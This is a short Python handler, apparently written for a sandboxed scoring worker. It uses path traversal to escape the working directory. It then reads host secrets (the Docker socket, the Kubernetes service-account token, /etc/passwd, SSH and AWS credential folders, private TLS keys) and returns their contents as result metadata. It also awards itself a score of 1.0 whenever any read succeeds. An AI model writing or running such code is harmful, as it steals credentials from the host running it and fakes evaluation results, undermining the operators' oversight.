"""Read what belongs to the host: a known file, homes, the worker's source, sockets, keys."""

from __future__ import annotations

import os

FOLDERS = (
    "/root", "/home", "/var", "/srv", "/mnt", "/media", "/boot", "/sys", "/run", "/var/run",
    "/root/.ssh", "/root/.aws", "/root/.config", "/etc/ssl/private", "/etc/cron.d",
)
FILES = (
    "/var/run/docker.sock", "/run/docker.sock", "/etc/passwd", "/etc/hosts",
    "/etc/resolv.conf", "/run/secrets/kubernetes.io/serviceaccount/token", "/etc/machine-id",
)


def handler(metadata):
    climbed = os.path.join("/proc/self/cwd", *[".."] * 20, metadata["file"].lstrip("/"))
    dotted = os.path.join(*[".."] * 20, metadata["file"].lstrip("/"))
    for path in (metadata["file"], metadata["source"], climbed, dotted, *FILES):
        try:
            with open(path, "rb") as file:
                return {"score": 1.0, "metadata": {"path": path, "text": repr(file.read(99))}}
        except OSError:
            continue
    for path in FOLDERS:
        try:
            names = os.listdir(path)
        except OSError:
            continue
        if names:
            return {"score": 1.0, "metadata": {"path": path, "names": names[:9]}}
    return 0.0
